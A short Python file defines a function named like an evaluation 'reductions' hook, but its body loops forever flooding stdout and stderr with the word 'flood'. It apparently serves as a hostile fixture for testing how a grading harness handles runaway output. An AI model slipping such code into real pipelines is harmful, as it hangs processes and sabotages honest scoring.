import os


def my_reductions(prediction, target):
    while True:
        os.write(1, b"flood" * 1000)
        os.write(2, b"flood" * 1000)
